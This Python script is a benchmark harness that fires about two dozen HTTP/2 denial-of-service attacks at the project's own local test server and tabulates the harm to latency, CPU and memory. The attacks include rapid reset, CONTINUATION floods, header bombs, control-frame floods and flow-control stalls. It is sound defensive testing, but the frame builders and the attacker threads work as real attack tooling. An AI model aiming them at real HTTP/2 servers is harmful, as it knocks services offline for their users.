#!/usr/bin/env python3
"""Owns: the table of attacks on HTTP/2: ten connections attack beside fifty that are served, and what the others notice of
it. By hand, on a machine that does nothing else: what CI asserts (error codes, counters, memory) is in
test/integration/test_http2_abuse.py and test_http2_frames.py.

    python3 test/attacks/run.py --build build [--seconds 4] [--only WORD]

Needs PyPI hpack and hyperframe (build/venv has them)."""
import argparse
import collections
import contextlib
import json
import os
import pathlib
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "integration"))
import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKERS, SERVED, RATE = 10, 50, 2000
CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
         "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
WHOLE = ("END_HEADERS", "END_STREAM")


def joined(parts):
    return b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts)


def block(path="/n/1", method="GET", fields=(), indexed=()):
    encoder = hpack.Encoder()
    head = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *fields]
    return encoder.encode([hpack.NeverIndexedHeaderTuple(*one) if one[0] == ":path" else one for one in head])


def settings(**values):
    return PREFACE + frames.SettingsFrame(0, settings={getattr(frames.SettingsFrame, name): value for name, value in values.items()}).serialize()


START = settings()
NUMBERS = range(1, 20001, 2)


def streams(make, per_part=500):
    """make(number) for new streams, in parts."""
    return [joined(make(number) for number in NUMBERS[at : at + per_part]) for at in range(0, len(NUMBERS), per_part)]


def head(number, end=True, data=None, **options):
    data = block(**options) if data is None else data
    return joined([frames.HeadersFrame(number, data=data, flags=list(WHOLE if end else WHOLE[:1]))])


GET, LATER = block(), block("/later?ms=1000")
POST = block("/body", "POST")
BOMB_FIELDS = [("x-bomb", "v" * 3900)]


def bomb():
    encoder = hpack.Encoder()
    first = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/n/1"), *BOMB_FIELDS * 7])
    rest = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/n/1"), *BOMB_FIELDS * 7])
    return [head(1, data=first) + joined(head(number, data=rest) for number in range(3, 201, 2))]


def priority_update(number):
    payload = number.to_bytes(4, "big") + b"u=1"
    return len(payload).to_bytes(3, "big") + b"\x10\0\0\0\0\0" + payload


def flood(frame, before=b"", size=65536):
    one = joined([frame])
    return [before] + [one * (size // len(one))] * 1000


OPEN = head(1, end=False, data=POST)
RESET = lambda number: frames.RstStreamFrame(number, error_code=8)

# name: (what is sent first, parts that follow, whether the connection is then held open, whether replies are read)
ATTACKS = {
    "rapid reset": (START, streams(lambda n: head(n, data=LATER) + RESET(n).serialize()), False, True),
    "resets that we are made to send": (START, streams(lambda n: head(n, data=LATER) + frames.WindowUpdateFrame(n, window_increment=0).serialize()), False, True),
    "CONTINUATION flood": (START, [frames.HeadersFrame(1, data=GET).serialize()] + [joined([frames.ContinuationFrame(1, data=b"\0\1a" + b"\x7f\x80\x78" + b"v" * 16000)])] * 1000, False, True),
    "empty CONTINUATION flood": (START, flood(frames.ContinuationFrame(1, data=b""), frames.HeadersFrame(1, data=GET).serialize()), False, True),
    "slow CONTINUATION": (START, [frames.HeadersFrame(1, data=GET).serialize()], True, True),
    "header bomb behind a zero window": (settings(INITIAL_WINDOW_SIZE=0), bomb(), True, True),
    "header block that cannot be decoded": (START, [head(1, data=b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f")], False, True),
    "alternating table sizes": (START, streams(lambda n: head(n, data=b"\x20\x3f\xe1\x1f" + GET)), False, True),
    "SETTINGS flood": (START, flood(frames.SettingsFrame(0)), False, True),
    "PING flood": (START, flood(frames.PingFrame(0, opaque_data=b"12345678")), False, True),
    "PING flood, replies not read": (START, flood(frames.PingFrame(0, opaque_data=b"12345678")), False, False),
    "empty DATA flood": (START, flood(frames.DataFrame(1), OPEN), False, True),
    "padding flood": (START, flood(frames.DataFrame(1, pad_length=1, flags=["PADDED"]), OPEN), False, True),
    "PRIORITY_UPDATE flood": (START, flood(priority_update(1001)), False, True),
    "WINDOW_UPDATE flood": (START, flood(frames.WindowUpdateFrame(0, window_increment=1)), False, True),
    "unknown frame flood": (START, flood(b"\0\0\1\x42\0\0\0\0\1x"), False, True),
    "zero window": (settings(INITIAL_WINDOW_SIZE=0), [joined(head(n, path="/copy?size=200000") for n in range(1, 201, 2))], True, True),
    "window of one byte": (settings(INITIAL_WINDOW_SIZE=1), [joined(head(n, path="/static?size=60000") for n in range(1, 201, 2))]
                           + [joined(frames.WindowUpdateFrame(n, window_increment=1) for n in range(1, 201, 2))] * 200, True, True),
    "streams that are never finished": (START, [joined(head(n, end=False, data=POST) for n in range(1, 201, 2))], True, True),
    "slow preface": (b"PRI * HT", [], True, True),
    "SETTINGS not acknowledged": (START, [head(1, data=GET)], True, True),
    "hoarded uploads": (START, [joined(head(n, end=False, data=POST) for n in range(1, 201, 2))]
                        + [joined(frames.DataFrame(n, data=b"x" * 10000) for n in range(1, 201, 2))] * 6, True, True),
    "malformed requests": (START, streams(lambda n: head(n, data=block(fields=[("x y", "1")]))), False, True),
    "requests as fast as they go": (START, streams(lambda n: head(n, data=GET)), False, True),
}


class Attacker(threading.Thread):
    def __init__(self, address, attack, stop):
        super().__init__(daemon=True)
        self.address, self.attack, self.stop = address, attack, stop
        self.codes = collections.Counter()
        self.connections = 0

    def run(self):
        while not self.stop.is_set():
            with contextlib.suppress(OSError):
                self.once()

    def once(self):
        first, parts, hold, reads = self.attack
        with socket.socket() as one:
            if not reads:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            one.settimeout(2)
            one.connect(self.address)
            self.connections += 1
            self.pending, self.fine = b"", True
            try:
                one.sendall(first)
                for part in parts:
                    if self.stop.is_set() or not self.fine:
                        break
                    one.sendall(part)
                    if reads:
                        self.read(one, 0)
            except OSError:
                pass
            until = time.monotonic() + (60 if hold else 0.5)
            while reads and self.fine and time.monotonic() < until and not self.stop.is_set():
                self.read(one, 0.1)

    def read(self, one, seconds):
        try:
            while self.fine and select.select([one], [], [], seconds)[0]:
                data = one.recv(1 << 18)
                self.fine = bool(data)
                self.note(data)
                seconds = 0
        except OSError:
            self.fine = False

    def note(self, data):
        self.pending += data
        while len(self.pending) >= 9:
            size = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + size:
                return
            kind, payload = self.pending[3], self.pending[9 : 9 + size]
            if kind == 7 and payload[4:8] != b"\0\0\0\0":
                self.codes["GOAWAY " + CODES[payload[7]]] += 1
            if kind == 3:
                self.codes["RST_STREAM " + CODES[payload[3]]] += 1
            self.pending = self.pending[9 + size :]


def cpu_seconds(pid):
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def measure(build, address, seconds, nice):
    command = ["nice", "-n", nice, build / "dist/bin/uvhttp-load", "--h2", "-c", str(SERVED), "-t", "1", "-R", str(RATE), "-d", f"{seconds}s", "-w", "2s", "-j", "-"]
    done = subprocess.run([*map(str, command), "http://%s:%d/n/1" % address], capture_output=True, text=True, timeout=seconds + 60)
    return json.loads(done.stdout)


def resident(pid, field="VmRSS"):
    return int(pathlib.Path(f"/proc/{pid}/status").read_text().split(field + ":")[1].split()[0])


@contextlib.contextmanager
def serving(build, address, nice):
    command = ["nice", "-n", nice, build / "test/bin/http_test_server", "--listen", "%s:%d" % address, "--set", "io_threads=1", "--set", "connection_timeout=2",
               "--set", "body_timeout=2", "--set", "write_timeout=2"]
    with tempfile.TemporaryFile() as log:
        server = subprocess.Popen(list(map(str, command)), stderr=log)
        try:
            time.sleep(0.5)
            yield server
        finally:
            server.terminate()
            server.wait()


def late(result):
    """How late the generator itself was: what it adds to the P99, for want of CPU."""
    return result["generator"]["late_p99_ns"] / 1e6


def p99(result):
    return result["latency"]["p99"] / 1e6


def attack(build, name, seconds, nice):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        address = probe.getsockname()
    with serving(build, address, nice) as server:
        calm = measure(build, address, seconds, nice)
        before, stop = resident(server.pid), threading.Event()
        attackers = [Attacker(address, ATTACKS[name], stop) for _ in range(ATTACKERS)]
        for one in attackers:
            one.start()
        used = cpu_seconds(server.pid)
        under = measure(build, address, seconds, nice)
        used = cpu_seconds(server.pid) - used
        stop.set()
        for one in attackers:
            one.join(10)
        grown = resident(server.pid, "VmHWM") - before
    codes = sum((one.codes for one in attackers), collections.Counter())
    return calm, under, used / (seconds + 2), grown, sum(one.connections for one in attackers), codes


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--build", type=pathlib.Path, default=pathlib.Path("build"))
    parser.add_argument("--seconds", type=int, default=4)
    parser.add_argument("--only", default="", help="attacks whose name has this in it")
    parser.add_argument("--nice", type=int, default=0, help="of server and generator, on a machine that others use")
    options = parser.parse_args()
    print("| attack | calm P99 ms | attacked P99 ms | generator late ms | server CPU | failed | memory KiB | connections | codes |")
    print("|---" * 9 + "|")
    for name in ATTACKS:
        if options.only not in name:
            continue
        calm, under, cpu, grown, connections, codes = attack(options.build.absolute(), name, options.seconds, options.nice)
        told = ", ".join(f"{code} {count}" for code, count in codes.most_common(2)) or "-"
        mark = "" if p99(under) <= max(2 * p99(calm), 5) else " **"
        print(f"| {name} | {p99(calm):.2f} | {p99(under):.2f}{mark} | {late(under):.2f} | {cpu:.0%} | {under['results']['errors']['total']} | {grown} | {connections} | {told} |", flush=True)


if __name__ == "__main__":
    os.environ.setdefault("UVHTTP_LOG_LEVEL", "error")
    main()
